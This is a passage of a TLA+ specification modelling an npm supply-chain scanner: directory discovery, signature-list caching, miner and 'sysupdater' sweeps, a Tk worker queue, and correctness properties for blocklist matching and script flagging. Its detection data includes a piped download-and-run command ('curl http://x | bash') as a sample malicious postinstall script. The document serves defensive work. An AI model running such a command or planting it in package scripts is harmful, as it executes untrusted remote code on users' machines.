\* the directory lies deeper than max_depth: dirnames[:] = []; continue
DSkipDeep ==
    /\ dpc = "walk" /\ dstack # <<>>
    /\ ~_should_stop(dcancel)
    /\ ExceedsDepth(_depth_of(Head(dstack)), max_depth)
    /\ \E filenames \in FileListings :
         dvisits' = Append(dvisits, [path |-> Head(dstack), deep |-> TRUE,
                                     files |-> filenames, kept |-> <<>>])
    /\ dstack' = Tail(dstack)
    /\ dpc' = WalkPc(dstack')
    /\ UNCHANGED << dtree, exclude_names, max_depth, check_sysupdater,
                    dcancel, dcalls, dswept >>
    /\ UNCHANGED notDiscVars

\* the directory is within max_depth: dirnames is pruned, and a directory
\* with a manifest is handed to scan_npm_project, which goes on to
\* scan_sysupdater_in_dir if its own package.json exists, check_sysupdater
\* is on and the token is not set
DVisit ==
    /\ dpc = "walk" /\ dstack # <<>>
    /\ ~_should_stop(dcancel)
    /\ ~ExceedsDepth(_depth_of(Head(dstack)), max_depth)
    /\ LET dirpath == Head(dstack)
           pruned == SelectSeq(ChildNames(dtree, dirpath),
                               LAMBDA d : KeepsChild(d, DirName(dirpath),
                                                     Exclusions(exclude_names)))
       IN  /\ dstack' = [i \in DOMAIN pruned |-> Append(dirpath, pruned[i])]
                           \o Tail(dstack)
           /\ \E filenames \in FileListings :
                /\ dvisits' = Append(dvisits,
                                     [path |-> dirpath, deep |-> FALSE,
                                      files |-> filenames, kept |-> pruned])
                /\ IF IsProjectRoot(filenames)
                   THEN /\ dcalls' = Append(dcalls, dirpath)
                        \* pkg.exists(): the file system may tell the
                        \* case of names apart or not
                        /\ \E exists \in {TRUE, "package.json" \in filenames} :
                             IF exists /\ check_sysupdater /\ ~_should_stop(dcancel)
                             THEN dswept' = dswept \cup Below(dtree, dirpath)
                             ELSE UNCHANGED dswept
                   ELSE UNCHANGED << dcalls, dswept >>
    /\ dpc' = WalkPc(dstack')
    /\ UNCHANGED << dtree, exclude_names, max_depth, check_sysupdater,
                    dcancel >>
    /\ UNCHANGED notDiscVars

\* another thread sets the token while the walk runs
DSetCancel ==
    /\ dcancel = "unset"
    /\ dpc = "walk"
    /\ dcancel' = "set"
    /\ UNCHANGED << dtree, exclude_names, max_depth, check_sysupdater, dpc,
                    dstack, dvisits, dcalls, dswept >>
    /\ UNCHANGED notDiscVars

NextDiscover ==
    \/ DStop
    \/ DSkipDeep
    \/ DVisit
    \/ DSetCancel

SpecDiscover == InitDiscover /\ [][NextDiscover]_vars

\* ------------------------------------- one signature list at import
\* fetch_json(url, cache_file) is called for one list
InitFetch ==
    /\ ScanIdle
    /\ MatchIdle
    /\ WalkIdle
    /\ ProjectIdle
    /\ DiscoverIdle
    /\ SweepIdle
    /\ GuiIdle
    /\ fkind \in {"replace", "merge"}
    /\ fcache \in CacheStates
    /\ fnet \in NetResults
    /\ fwrite \in WriteResults
    /\ fpc = "call"
    /\ fdata = <<>>
    /\ fresult = <<>>
    /\ fresolved = <<>>
    /\ frequested = FALSE
    /\ fcache0 = fcache

\* json.loads(cache_file.read_text(encoding="utf-8")): where it leads
ReadCache(then) ==
    IF fcache.kind = "json"
    THEN fresult' = fcache.items /\ fpc' = "resolve"
    ELSE IF fcache.kind = "corrupt"
    THEN fpc' = then /\ UNCHANGED fresult
    ELSE \* UnicodeDecodeError: no except clause takes it
         fpc' = "raised" /\ UNCHANGED fresult

\* the cache is fresh: it is read, and no request is made
FUseCache ==
    /\ fpc = "call"
    /\ IsFresh(fcache)
    /\ ReadCache("fallback")
    /\ UNCHANGED << fkind, fcache, fnet, fwrite, fdata, fresolved,
                    frequested, fcache0 >>
    /\ UNCHANGED notFetchVars

\* the cache is missing or too old: requests.get, raise_for_status,
\* resp.json()
FRequest ==
    /\ fpc = "call"
    /\ ~IsFresh(fcache)
    /\ frequested' = TRUE
    /\ IF fnet.status = "ok"
       THEN fdata' = fnet.items /\ fpc' = "write"
       ELSE fpc' = "fallback" /\ UNCHANGED fdata
    /\ UNCHANGED << fkind, fcache, fnet, fwrite, fresult, fresolved, fcache0 >>
    /\ UNCHANGED notFetchVars

\* cache_file.write_text(json.dumps(data, ...)); return data
FWriteCache ==
    /\ fpc = "write"
    /\ IF fwrite = "ok"
       THEN /\ fcache' = [exists |-> TRUE, age |-> 0, kind |-> "json",
                          items |-> fdata]
            /\ fresult' = fdata
            /\ fpc' = "resolve"
       ELSE /\ fcache' = IF fwrite = "truncated"
                         THEN [exists |-> TRUE, age |-> 0, kind |-> "corrupt",
                               items |-> <<>>]
                         ELSE fcache
            /\ fpc' = "fallback"
            /\ UNCHANGED fresult
    /\ UNCHANGED << fkind, fnet, fwrite, fdata, fresolved, frequested, fcache0 >>
    /\ UNCHANGED notFetchVars

\* after an except clause: the cache if there is one, {} if it is missing
\* or no JSON
FFallback ==
    /\ fpc = "fallback"
    /\ IF fcache.exists
       THEN ReadCache("resolve")
       ELSE fpc' = "resolve" /\ UNCHANGED fresult
    /\ UNCHANGED << fkind, fcache, fnet, fwrite, fdata, fresolved,
                    frequested, fcache0 >>
    /\ UNCHANGED notFetchVars

\* the module-level code that follows the call
FResolve ==
    /\ fpc = "resolve"
    /\ fresolved' = Resolve(fkind, fresult)
    /\ fpc' = "done"
    /\ UNCHANGED << fkind, fcache, fnet, fwrite, fdata, fresult, frequested,
                    fcache0 >>
    /\ UNCHANGED notFetchVars

NextFetch ==
    \/ FUseCache
    \/ FRequest
    \/ FWriteCache
    \/ FFallback
    \/ FResolve

SpecFetch == InitFetch /\ [][NextFetch]_vars

\* ------------------------------------- one sweep called on its own
\* run_scan_core reaches the step of one of the two sweeps
InitSweep ==
    /\ ScanIdle
    /\ MatchIdle
    /\ WalkIdle
    /\ ProjectIdle
    /\ DiscoverIdle
    /\ FetchIdle
    /\ GuiIdle
    /\ skind \in {"sysupdater_global", "miners"}
    /\ sopt \in SweepDepthChoices
    /\ sexclude \in SweepExcludeChoices
    /\ scancel \in {"none", "unset"}
    /\ spc = "gate"
    /\ smax = 0
    /\ sdir = <<>>
    /\ sfiles = <<>>
    /\ snext = <<>>
    /\ svisits = <<>>
    /\ srows = <<>>

\* if not _should_stop(cancel) and options.<flag>: the sweep is called with
\* its max_depth
SGate ==
    /\ spc = "gate"
    /\ IF _should_stop(scancel)
       THEN spc' = "done" /\ UNCHANGED smax
       ELSE spc' = "walk" /\ smax' = EffectiveDepth(skind, sopt)
    /\ UNCHANGED << skind, sopt, sexclude, scancel, sdir, sfiles, snext,
                    svisits, srows >>
    /\ UNCHANGED notSweepVars

\* one turn of "for dirpath, dirnames, files in os.walk(root)": the poll,
\* the depth test, the pruning of dirnames
SDir ==
    /\ spc = "walk"
    /\ IF _should_stop(scancel)
       THEN /\ spc' = "done"
            /\ UNCHANGED << sfiles, snext, svisits >>
       ELSE IF _depth_of(sdir) > smax
       THEN \* dirnames[:] = []; continue: os.walk has nothing left
            /\ svisits' = Append(svisits, [path |-> sdir, deep |-> TRUE,
                                           files |-> <<>>, kept |-> <<>>])
            /\ spc' = "done"
            /\ UNCHANGED << sfiles, snext >>
       ELSE \E dirnames \in (IF Len(sdir) < MaxChain THEN SweepDirListings
                             ELSE {<<>>}),
               files \in (IF FullDirs(svisits) < MaxFull
                          THEN {<<>>, SweepFiles} ELSE {<<>>}) :
              LET kept == SelectSeq(dirnames,
                             LAMBDA d : Lower(d) \notin PlainExclusions(sexclude))
              IN  /\ snext' = kept
                  /\ sfiles' = files
                  /\ svisits' = Append(svisits,
                                  [path |-> sdir, deep |-> FALSE,
                                   files |-> files, kept |-> kept])
                  /\ spc' = "files"
    /\ UNCHANGED << skind, sopt, sexclude, scancel, smax, sdir, srows >>
    /\ UNCHANGED notSweepVars

\* one turn of "for filename in files": the poll, then the file
SFile ==
    /\ spc = "files" /\ sfiles # <<>>
    /\ IF _should_stop(scancel)
       THEN spc' = "done" /\ UNCHANGED << sfiles, srows >>
       ELSE /\ srows' = IF SweepHit(skind, Head(sfiles))
                        THEN Append(srows, SweepRow(skind, sdir, Head(sfiles)))
                        ELSE srows
            /\ sfiles' = Tail(sfiles)
            /\ UNCHANGED spc
    /\ UNCHANGED << skind, sopt, sexclude, scancel, smax, sdir, snext,
                    svisits >>
    /\ UNCHANGED notSweepVars

\* the files are through: os.walk goes down into what is left of dirnames,
\* or the walk is over
SDescend ==
    /\ spc = "files" /\ sfiles = <<>>
    /\ IF snext = <<>>
       THEN spc' = "done" /\ UNCHANGED sdir
       ELSE spc' = "walk" /\ sdir' = Append(sdir, Head(snext))
    /\ UNCHANGED << skind, sopt, sexclude, scancel, smax, sfiles, snext,
                    svisits, srows >>
    /\ UNCHANGED notSweepVars

\* another thread sets the token while the sweep runs
SSetCancel ==
    /\ scancel = "unset"
    /\ spc \notin {"idle", "done"}
    /\ scancel' = "set"
    /\ UNCHANGED << skind, sopt, sexclude, spc, smax, sdir, sfiles, snext,
                    svisits, srows >>
    /\ UNCHANGED notSweepVars

NextSweep ==
    \/ SGate
    \/ SDir
    \/ SFile
    \/ SDescend
    \/ SSetCancel

SpecSweep == InitSweep /\ [][NextSweep]_vars

\* ------------------------------------- the window and its worker thread
\* main() has built the window; pump_log is scheduled
InitGui ==
    /\ ScanIdle
    /\ MatchIdle
    /\ WalkIdle
    /\ ProjectIdle
    /\ DiscoverIdle
    /\ FetchIdle
    /\ SweepIdle
    /\ GuiIdle

\* the Tk thread is between two callbacks and the window exists
TkFree == gpump = "idle" /\ gapp # "destroyed"

\* stop_scan(): the message, the token, the button
stop_scan ==
    IF cancel_event # 0 /\ running
    THEN /\ gq' = PostQ(gq, "stop", cancel_event)
         /\ dropped' = PostDropped(gq, dropped)
         /\ gtokens' = [gtokens EXCEPT ![cancel_event] = "set"]
         /\ btn_run' = "stopping"
    ELSE UNCHANGED << gq, dropped, gtokens, btn_run >>

\* start_scan(): a new token, _set_running(True), the header lines, the
\* worker thread
GStart ==
    /\ TkFree /\ btn_run # "stopping"
    /\ StartsScan(running)
    /\ cancel_event < MaxScans
    /\ CanPost(gq, dropped)
    /\ LET k == cancel_event + 1
       IN  /\ cancel_event' = k
           /\ gtokens' = [gtokens EXCEPT ![k] = "unset"]
           /\ running' = TRUE
           /\ btn_run' = "stop"
           /\ gq' = PostQ(gq, "hdr", k)
           /\ dropped' = PostDropped(gq, dropped)
           /\ gworker' = [gworker EXCEPT ![k] = "run"]
           /\ \E n \in 0..MaxLogs : gleft' = [gleft EXCEPT ![k] = n]
    /\ UNCHANGED << gpump, processed, gapp, gsent, gconsumed >>
    /\ UNCHANGED notGuiVars

\* on_btn_click() while running: stop_scan()
GStop ==
    /\ TkFree /\ btn_run # "stopping"
    /\ running
    /\ CanPost(gq, dropped)
    /\ stop_scan
    /\ UNCHANGED << running, cancel_event, gworker, gleft, gpump, processed,
                    gapp, gsent, gconsumed >>
    /\ UNCHANGED notGuiVars

\* on_close(), from the window manager or from its own timer: stop_scan()
\* and another try 200 ms later while running, app.destroy() otherwise
GClose ==
    /\ TkFree
    /\ CanPost(gq, dropped)
    /\ IF running
       THEN stop_scan /\ gapp' = "closing"
       ELSE /\ gapp' = "destroyed"
            /\ UNCHANGED << gq, dropped, gtokens, btn_run >>
    /\ UNCHANGED << running, cancel_event, gworker, gleft, gpump, processed,
                    gsent, gconsumed >>
    /\ UNCHANGED notGuiVars

\* pump_log() is called by its timer: processed = 0
GPumpStart ==
    /\ TkFree
    /\ gpump' = "loop"
    /\ processed' = 0
    /\ UNCHANGED << gq, dropped, running, btn_run, cancel_event, gtokens,
                    gworker, gleft, gapp, gsent, gconsumed >>
    /\ UNCHANGED notGuiVars

\* one turn of "while processed < max_per_tick": item = q.get_nowait();
\* the sentinel ends the loop after _set_running(False)
GPumpGet ==
    /\ gpump = "loop"
    /\ processed < max_per_tick /\ gq # <<>>
    /\ gq' = Tail(gq)
    /\ processed' = processed + 1
    /\ IF Head(gq).tag = "__DONE__"
       THEN /\ running' = FALSE
            /\ btn_run' = "start"
            /\ gconsumed' = [gconsumed EXCEPT ![Head(gq).scan] = @ + 1]
            /\ gpump' = "after"
       ELSE UNCHANGED << running, btn_run, gconsumed, gpump >>
    /\ UNCHANGED << dropped, cancel_event, gtokens, gworker, gleft, gapp,
                    gsent >>
    /\ UNCHANGED notGuiVars

\* the loop is left (Empty, the limit or the sentinel): the count of
\* dropped lines is shown and reset, pump_log is scheduled again
GPumpEnd ==
    /\ \/ gpump = "after"
       \/ gpump = "loop" /\ (processed >= max_per_tick \/ gq = <<>>)
    /\ dropped' = 0
    /\ gpump' = "idle"
    /\ processed' = 0
    /\ UNCHANGED << gq, running, btn_run, cancel_event, gtokens, gworker,
                    gleft, gapp, gsent, gconsumed >>
    /\ UNCHANGED notGuiVars

\* the worker threads that were started and the window still there
Alive(k) == gworker[k] # "none" /\ gapp # "destroyed"

\* run_scan_core calls log_fn=post
WLog(k) ==
    /\ Alive(k) /\ gworker[k] = "run" /\ gleft[k] > 0
    /\ CanPost(gq, dropped)
    /\ gq' = PostQ(gq, "log", k)
    /\ dropped' = PostDropped(gq, dropped)
    /\ gleft' = [gleft EXCEPT ![k] = @ - 1]
    /\ UNCHANGED << running, btn_run, cancel_event, gtokens, gworker, gpump,
                    processed, gapp, gsent, gconsumed >>
    /\ UNCHANGED notGuiVars

\* run_scan_core returns its rows and stats
WReturn(k) ==
    /\ Alive(k) /\ gworker[k] = "run"
    /\ gworker' = [gworker EXCEPT ![k] = "put_done"]
    /\ gleft' = [gleft EXCEPT ![k] = 0]
    /\ UNCHANGED << gq, dropped, running, btn_run, cancel_event, gtokens,
                    gpump, processed, gapp, gsent, gconsumed >>
    /\ UNCHANGED notGuiVars

\* q.put(("__DONE__", stats)) waits for a free place
WPutDone(k) ==
    /\ Alive(k) /\ gworker[k] = "put_done"
    /\ Len(gq) < maxsize
    /\ gq' = Append(gq, Msg("__DONE__", k))
    /\ gsent' = [gsent EXCEPT ![k] = @ + 1]
    /\ gworker' = [gworker EXCEPT ![k] = "ended"]
    /\ UNCHANGED << dropped, running, btn_run, cancel_event, gtokens, gleft,
                    gpump, processed, gapp, gconsumed >>
    /\ UNCHANGED notGuiVars

\* run_scan_core raises: an error of the except clause of worker, or
\* another one, which ends the thread
WRaise(k) ==
    /\ Alive(k) /\ gworker[k] = "run"
    /\ \E listed \in BOOLEAN :
         gworker' = [gworker EXCEPT ![k] = IF listed THEN "put_err" ELSE "died"]
    /\ gleft' = [gleft EXCEPT ![k] = 0]
    /\ UNCHANGED << gq, dropped, running, btn_run, cancel_event, gtokens,
                    gpump, processed, gapp, gsent, gconsumed >>
    /\ UNCHANGED notGuiVars

\* q.put(f"[!] Erreur: {exc!r}") waits for a free place
WPutErr(k) ==
    /\ Alive(k) /\ gworker[k] = "put_err"
    /\ Len(gq) < maxsize
    /\ gq' = Append(gq, Msg("err", k))
    /\ gworker' = [gworker EXCEPT ![k] = "failed"]
    /\ UNCHANGED << dropped, running, btn_run, cancel_event, gtokens, gleft,
                    gpump, processed, gapp, gsent, gconsumed >>
    /\ UNCHANGED notGuiVars

PumpStep ==
    \/ GPumpStart
    \/ GPumpGet
    \/ GPumpEnd

WorkerStep ==
    \/ \E k \in Scans : WLog(k)
    \/ \E k \in Scans : WReturn(k)
    \/ \E k \in Scans : WPutDone(k)
    \/ \E k \in Scans : WRaise(k)
    \/ \E k \in Scans : WPutErr(k)

NextGui ==
    \/ GStart
    \/ GStop
    \/ GClose
    \/ GPumpStart
    \/ GPumpGet
    \/ GPumpEnd
    \/ \E k \in Scans : WLog(k)
    \/ \E k \in Scans : WReturn(k)
    \/ \E k \in Scans : WPutDone(k)
    \/ \E k \in Scans : WRaise(k)
    \/ \E k \in Scans : WPutErr(k)

SpecGui == InitGui /\ [][NextGui]_vars

\* q.put(item) of a worker that waits for a free place
BlockingPut ==
    \/ \E k \in Scans : WPutDone(k)
    \/ \E k \in Scans : WPutErr(k)

\* the Tk timer calls pump_log as long as the window exists and a started
\* thread is scheduled; a thread that waits in q.put is woken by every
\* get (not_full.notify()), so it puts its item if room comes again and
\* again
SpecGuiLive ==
    SpecGui /\ WF_vars(PumpStep) /\ WF_vars(WorkerStep) /\ SF_vars(BlockingPut)

\* ------------------------------------------------------------ properties
\* how often x occurs in s
Count(s, x) == Cardinality({i \in DOMAIN s : s[i] = x})

\* s holds the records of t, each as often, in some order
IsPermutation(s, t) ==
    /\ Len(s) = Len(t)
    /\ \A i \in DOMAIN t : Count(s, t[i]) = Count(t, t[i])

\* every record of t is in s, at least as often
ContainsAll(s, t) == \A i \in DOMAIN t : Count(s, t[i]) >= Count(t, t[i])

\* a <= b for texts, by the first place where they differ
TextLeq(a, b) ==
    \/ a = b
    \/ \E n \in 0..Min(Len(a), Len(b)) :
         /\ \A i \in 1..n : a[i] = b[i]
         /\ \/ n = Len(a) /\ n < Len(b)
            \/ n < Len(a) /\ n < Len(b) /\ a[n + 1] < b[n + 1]

\* (Category, Project, Item, Detail) of a is not after that of b
KeyLeq(a, b) ==
    \/ CatRank(a.Category) < CatRank(b.Category)
    \/ /\ a.Category = b.Category
       /\ \/ a.Project # b.Project /\ TextLeq(a.Project, b.Project)
          \/ /\ a.Project = b.Project
             /\ \/ a.Item # b.Item /\ TextLeq(a.Item, b.Item)
                \/ a.Item = b.Item /\ TextLeq(a.Detail, b.Detail)

SameKey(a, b) ==
    /\ a.Category = b.Category /\ a.Project = b.Project
    /\ a.Item = b.Item /\ a.Detail = b.Detail

Ascending(s) == \A i \in 1..(Len(s) - 1) : KeyLeq(s[i], s[i + 1])

C2_PreCancelledRunIsEmpty ==
    cancelAtCall = "set" =>
        /\ pc \notin {"run", "emit"}
        /\ appended = <<>>
        /\ outcome # "raised"
        /\ outcome = "returned" =>
             rows = <<>> /\ stats = [total |-> 0, high |-> 0]

C2_Witness ==
    cancelAtCall = "set" /\ outcome = "returned" /\ ~interrupted /\ os = "win"

C4_CancelSkipsLaterSteps ==
    [][cancel = "set" => (cancel' = "set" /\ ~(pc = "gate" /\ pc' = "run"))]_vars

\* the token is set when the nested miner process gate is evaluated
C4_Witness == cancel = "set" /\ pc = "gate" /\ pos = 5

\* C5: control only moves forward through StepOrder: a gate starts the
\* detector of its own or a later position, allowed on this operating
\* system; a detector that returns hands control to a later gate, and the
\* project step to a gate after its alternate. So the steps started form a
\* strictly increasing subsequence of StepOrder and none is started twice.
C5_StepsInFixedOrder ==
    [][ /\ pos' >= pos
        /\ (pc = "gate" /\ pc' = "run") => StepOS(pos') \in {"any", os}
        /\ (pc \in {"run", "emit"} /\ pc' = "gate") => pos' > pos
        /\ (pc \in {"run", "emit"} /\ pos = 1 /\ pc' = "gate") => pos' > 2
      ]_vars

\* the last step of the order is started after findings of earlier steps
C5_Witness == pc = "run" /\ pos = NSteps /\ Len(rows) = 2

\* C6: the returned list is ascending by (Category, Project, Item, Detail),
\* however the run ended; sorting it again changes nothing; findings with
\* equal keys are in the order in which they were appended.
C6_ResultSorted ==
    outcome = "returned" =>
        /\ Ascending(rows)
        /\ SortRows(rows) = rows
        /\ Len(order) = Len(appended)
        /\ \A i \in DOMAIN order : rows[i] = appended[order[i]]
        /\ \A i, j \in DOMAIN order :
             (i < j /\ SameKey(rows[i], rows[j])) => order[i] < order[j]

\* an interrupted run whose two findings the sort had to swap
C6_Witness ==
    /\ outcome = "returned" /\ interrupted
    /\ Len(rows) = 2 /\ rows # appended

\* C7: the returned stats are total = length of the returned list and
\* high = number of its findings of Severity HIGH, hence high <= total.
C7_StatsMatchRows ==
    outcome = "returned" =>
        /\ stats.total = Len(rows)
        /\ stats.high = Cardinality({i \in DOMAIN rows : rows[i].Severity = "HIGH"})
        /\ stats.high <= stats.total

\* a cancelled run returning one HIGH finding and one that is not
C7_Witness ==
    /\ outcome = "returned" /\ cancel = "set"
    /\ stats.total = 2 /\ stats.high = 1

\* C8: after a KeyboardInterrupt inside the try block no error leaves
\* run_scan_core, no further detector runs and nothing more is appended;
\* the call returns the findings collected so far, sorted, with their stats.
C8_InterruptHandled ==
    /\ [](interrupted =>
            /\ pc \in {"sort", "done"}
            /\ outcome # "raised"
            /\ pc = "done" =>
                 /\ outcome = "returned"
                 /\ IsPermutation(rows, appended)
                 /\ Ascending(rows)
                 /\ stats.total = Len(appended))
    /\ [][interrupted => appended' = appended]_vars

\* interrupted inside a detector that had appended one of its two findings
C8_Witness ==
    /\ interrupted /\ outcome = "returned" /\ cancel # "set"
    /\ Len(rows) = 1 /\ fullTotal = 2

\* C9 (as claimed): no error leaves run_scan_core: when a detector fails the
\* call still returns, and the findings the steps appended are in the result.
C9_NoErrorEscapes ==
    /\ outcome # "raised"
    /\ pc = "done" => ContainsAll(rows, appended)

\* C10: is_compromised(name, version) is true iff name is a key of the
\* blocklist and version is one of the versions listed under it, literally:
\* with chalk: [5.6.1] alone, chalk@5.6.1 is compromised and chalk@5.6.0,
\* chalk@5.6 and chalk@5.6.10 are not.
C10_ExactMatch ==
    mpc = "done" =>
        /\ mresult = /\ mname \in DOMAIN BAD_PACKAGES
                     /\ \E i \in DOMAIN BAD_PACKAGES[mname] :
                          BAD_PACKAGES[mname][i] = mversion
        /\ (BAD_PACKAGES = [n \in {"chalk"} |-> << <<5, 6, 1>> >>]
              /\ mname = "chalk")
             => (mresult = (mversion = <<5, 6, 1>>))

\* chalk@5.6.0 asked of a blocklist that lists chalk 5.6.1 only
C10_Witness ==
    /\ mpc = "done" /\ mname = "chalk" /\ mversion = <<5, 6, 0>>
    /\ BAD_PACKAGES = [n \in {"chalk"} |-> << <<5, 6, 1>> >>]
    /\ mresult = FALSE

\* the name under which the node at dependency path q is walked
NodeName(q) == IF q = <<>> THEN wname ELSE q[Len(q)]

\* findings in the walker's sink whose Detail is the breadcrumb of q
FindingsAt(q) == {i \in DOMAIN wrows : wrows[i].Detail = <<"root">> \o q}

\* C11: with only_risk off, walk_package_tree appends exactly one finding
\* for every node occurrence whose name is watched and whose version is not
\* empty, naming that package and version with the occurrence's breadcrumb
\* as Detail, and nothing else; a package reached through two paths has two
\* findings with two different Details.
C11_OneFindingPerOccurrence ==
    (wpc = "done" /\ ~wonly_risk) =>
        /\ \A q \in DOMAIN wtree :
             IF /\ wtree[q].isdict
                /\ wtree[q].version # NoVersion
                /\ NodeName(q) \in {"chalk", "debug"}
             THEN /\ Cardinality(FindingsAt(q)) = 1
                  /\ \A i \in FindingsAt(q) :
                       /\ wrows[i].Item[1] = NodeName(q)
                       /\ wrows[i].Item[2] = wtree[q].version
                       /\ wrows[i].Category = "npm:packages"
             ELSE FindingsAt(q) = {}
        /\ \A i \in DOMAIN wrows :
             \E q \in DOMAIN wtree : wrows[i].Detail = <<"root">> \o q
        /\ \A q1, q2 \in DOMAIN wtree :
             (q1 # q2 /\ FindingsAt(q1) # {} /\ FindingsAt(q2) # {}) =>
                 FindingsAt(q1) \cap FindingsAt(q2) = {}

\* a diamond: chalk 5.6.1 under debug and under left-pad, found twice
C11_Witness ==
    /\ wpc = "done" /\ ~wonly_risk
    /\ {<<"debug", "chalk">>, <<"left-pad", "chalk">>} \subseteq DOMAIN wtree
    /\ wtree[<<"debug", "chalk">>].version # NoVersion
    /\ wtree[<<"left-pad", "chalk">>].version # NoVersion
    /\ \E i, j \in DOMAIN wrows :
         /\ wrows[i].Detail = <<"root", "debug", "chalk">>
         /\ wrows[j].Detail = <<"root", "left-pad", "chalk">>
         /\ wrows[i].Item = wrows[j].Item

\* the findings of the Matcher-driven detectors with severity sev
MatcherRows(s, sev) ==
    SelectSeq(s, LAMBDA r : r.Category = "npm:packages" /\ r.Severity = sev)

\* C12: with only_risk set, the result holds no INFO finding of category
\* npm:packages whatever the other flags are, and the HIGH findings of
\* that category are those of the run without only_risk. The alternate arm
\* of the project step (no_npm with sysupdater_project) passes
\* only_risk=False, so this is violated.
C12_OnlyRiskDropsInfo ==
    options.only_risk =>
        /\ MatcherRows(prows, "INFO") = <<>>
        /\ MatcherRows(prows, "HIGH") = MatcherRows(prowsAll, "HIGH")

\* C13: every finding of the run with only_risk set is a finding of the run
\* on the same project, with the same other flags, without only_risk.
C13_OnlyRiskSubset ==
    options.only_risk =>
        \A i \in DOMAIN prows : \E j \in DOMAIN prowsAll :
            /\ prowsAll[j].Category = prows[i].Category
            /\ prowsAll[j] = prows[i]

\* the run with only_risk set returned some findings and left others out
C13_Witness ==
    /\ ppc = "done" /\ pcancel # "set"
    /\ options.only_risk /\ ~options.no_npm
    /\ MatcherRows(prows, "HIGH") # <<>>
    /\ Len(prowsAll) > Len(prows)

\* the script names that name an install phase, and the commands that pipe
\* a download into a shell, among those the model draws
InstallPhaseNames == { <<"post", "install">>, <<"Prepare">> }
PipedDownloads == { <<"curl", "http://x", "|", "bash">> }

\* the npm:scripts findings for the script called name
ScriptFindings(name) ==
    {i \in DOMAIN prows : prows[i].Category = "npm:scripts" /\ prows[i].Item = name}

\* how many entries of the scripts mapping the loop has been through
ScriptTurns ==
    IF ppc = "scripts_loop" THEN Len(pscripts) - Len(pwork)
    ELSE IF ppc \in {"sysupdater", "sysupdater_loop", "done"} /\ pcancel # "set"
    THEN Len(pscripts)
    ELSE 0

\* C18: with script inspection on, an entry of the scripts mapping the scan
\* has been through has exactly one npm:scripts finding if its name names
\* an install phase (case ignored) or its command is suspicious, and none
\* otherwise; the finding is MEDIUM, its Item the name, its Detail the
\* command, its DescriptorPath the manifest.
C18_OneFindingPerFlaggedScript ==
    \A k \in DOMAIN pscripts :
        LET e == pscripts[k]
            flagged == \/ e.name \in InstallPhaseNames
                       \/ (~e.cmd.isnone /\ e.cmd.text \in PipedDownloads)
            found == ScriptFindings(e.name)
        IN  /\ Cardinality(found) <= 1
            /\ ~flagged => found = {}
            /\ (flagged /\ k <= ScriptTurns) => Cardinality(found) = 1
            /\ k > ScriptTurns /\ ppc = "scripts_loop" => found = {}
            /\ \A i \in found :
                 /\ prows[i].Severity = "MEDIUM"
                 /\ prows[i].Detail = (IF e.cmd.isnone THEN <<>> ELSE e.cmd.text)
                 /\ prows[i].DescriptorPath = <<"package.json">>

\* {postinstall: "curl http://x | bash", build: "node build.js"}: one
\* finding, for postinstall
C18_Witness ==
    /\ ppc = "done" /\ pcancel # "set"
    /\ Len(pscripts) = 2
    /\ \E k \in DOMAIN pscripts :
         /\ pscripts[k].name = <<"post", "install">>
         /\ pscripts[k].cmd.text = <<"curl", "http://x", "|", "bash">>
    /\ \E k \in DOMAIN pscripts :
         /\ pscripts[k].name = <<"build">>
         /\ pscripts[k].cmd.text = <<"node", "build.js">>
    /\ Cardinality({i \in DOMAIN prows : prows[i].Category = "npm:scripts"}) = 1
    /\ Cardinality(ScriptFindings(<<"post", "install">>)) = 1

\* the visits of directories within max_depth
Processed == {i \in DOMAIN dvisits : ~dvisits[i].deep}

\* the names that read "extensions" and ".vscode" when case is ignored
ExtensionsNames == {"Extensions"}
VscodeNames == {".VSCode"}

\* d is named by the configured exclusions, blanks and case ignored
ConfiguredOut(d) ==
    \/ d = "Extensions" /\ " Extensions " \in exclude_names
    \/ d = "src" /\ "SRC" \in exclude_names

\* C14: a child directory is pruned iff it is called extensions and its
\* parent .vscode, or it is not called extensions and is in the configured
\* or the built-in exclusion set (names compared with case ignored); so no
\* project is found under node_modules or under .vscode/extensions, while
\* src/extensions and what lies below it are visited even with extensions
\* among the configured exclusions.
C14_PruneRule ==
    /\ \A i \in Processed :
         LET v == dvisits[i]
         IN  \A d \in DirNames :
               Append(v.path, d) \in dtree =>
                 ((\A k \in DOMAIN v.kept : v.kept[k] # d)
                   <=> \/ d \in ExtensionsNames /\ DirName(v.path) \in VscodeNames
                       \/ /\ d \notin ExtensionsNames
                          /\ (ConfiguredOut(d) \/ d = "node_modules"))
    /\ \A c \in DOMAIN dcalls : \A k \in DOMAIN dcalls[c] :
         /\ dcalls[c][k] # "node_modules"
         /\ k > 1 => ~(dcalls[c][k - 1] \in VscodeNames
                       /\ dcalls[c][k] \in ExtensionsNames)
    /\ (dpc = "done" /\ dcancel # "set" /\ max_depth = DefaultMaxDepth
        /\ " Extensions " \in exclude_names) =>
         \A q \in dtree :
            (Len(q) >= 2 /\ SubSeq(q, 1, 2) = <<"src", "Extensions">>
             /\ \A k \in 3..Len(q) : q[k] \in {"src", "Extensions"}) =>
               \E i \in Processed : dvisits[i].path = q

\* extensions is configured out, and the project in src/Extensions is found
\* while node_modules next to src is not entered
C14_Witness ==
    /\ dpc = "done" /\ dcancel # "set"
    /\ " Extensions " \in exclude_names
    /\ \E c \in DOMAIN dcalls : dcalls[c] = <<"src", "Extensions">>
    /\ <<"node_modules">> \in dtree
    /\ \A i \in DOMAIN dvisits : dvisits[i].path # <<"node_modules">>

\* C15: with max_depth = 0 the project scan considers the files of root
\* only: no other directory is processed, entered by a nested sweep or
\* scanned as a project. The sweep that scan_npm_project starts on a
\* project walks the whole tree below it, so this is violated.
C15_DepthZeroRootOnly ==
    max_depth = 0 =>
        /\ \A i \in Processed : dvisits[i].path = <<>>
        /\ \A c \in DOMAIN dcalls : dcalls[c] = <<>>
        /\ dswept \subseteq {<<>>}

\* C16 as stated: a directory deeper than max_depth has none of its
\* subdirectories entered, and a manifest directly inside it is still
\* scanned as a project. The depth test skips the rest of the loop body, so
\* this is violated.
C16_OverDepthFilesProcessed ==
    \A i \in DOMAIN dvisits :
        dvisits[i].deep =>
            /\ dvisits[i].kept = <<>>
            /\ IsProjectRoot(dvisits[i].files) =>
                 \E c \in DOMAIN dcalls : dcalls[c] = dvisits[i].path

\* C16, amended: a directory is skipped iff its depth exceeds max_depth;
\* none of the subdirectories of a skipped directory is visited, and the
\* discoverer calls no project scan on it, manifest or not.
C16_OverDepthSkipped ==
    \A i \in DOMAIN dvisits :
        /\ dvisits[i].deep <=> Len(dvisits[i].path) > max_depth
        /\ dvisits[i].deep =>
             /\ \A j \in DOMAIN dvisits :
